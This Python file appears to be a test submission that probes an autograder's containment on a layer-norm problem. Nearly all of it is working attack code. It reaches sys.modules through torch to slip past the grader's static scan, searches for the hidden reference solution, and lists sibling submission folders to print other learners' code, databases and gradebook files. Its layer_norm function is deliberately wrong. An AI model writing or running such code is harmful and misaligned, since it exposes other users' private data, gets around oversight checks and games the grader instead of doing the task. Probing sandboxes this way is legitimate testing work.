"""Class: 3
Problem: layer-norm
Goal: read
Attempt: in `grader grade submissions/` the other submissions and the gradebook sit
beside this one: list the parent directory and print every other learner's files.
Contained: no other learner's file content reaches the report.
"""
import torch


def _m(t=torch):
    """sys.modules, reached through a parameter: the static scan resolves no alias for `t`."""
    return t.sys.modules


def _candidates(name="layer_norm.py"):
    """Where a course's hidden reference lives: beside the grader package (an editable
    install or the repository), under course_data (a wheel), or under the working directory."""
    os = _m()["os"]
    roots = []
    g = _m().get("grader")
    if g is not None:
        roots.append(os.path.dirname(os.path.dirname(os.path.abspath(g.__file__))))
        roots.append(os.path.join(os.path.dirname(os.path.abspath(g.__file__)), "course_data"))
    roots.append(os.getcwd())
    out = []
    for r in roots:
        p = os.path.join(r, "reference", name)
        if os.path.exists(p) and p not in out:
            out.append(p)
    return out


def _show(label, text):
    print(f"=== {label} ===")
    print(text[:3000])


_os = _m()["os"]
_here = _os.path.dirname(_os.path.abspath(__file__))
_parent = _os.path.dirname(_here)
try:
    for _d in sorted(_os.listdir(_parent)):
        _full = _os.path.join(_parent, _d)
        if _full == _here or not _os.path.isdir(_full):
            continue
        for _f in sorted(_os.listdir(_full))[:5]:
            if _f.endswith((".py", ".sqlite", ".json", ".csv")):
                try:
                    _show(_f, _m()["io"].open(_os.path.join(_full, _f), errors="replace").read())
                except Exception as exc:
                    print("read failed:", type(exc).__name__, exc)
except Exception as exc:
    print("listing failed:", type(exc).__name__, exc)


def layer_norm(x, eps=1e-5):
    return torch.full_like(x, 3.0)  # wrong on every case: only the leak matters
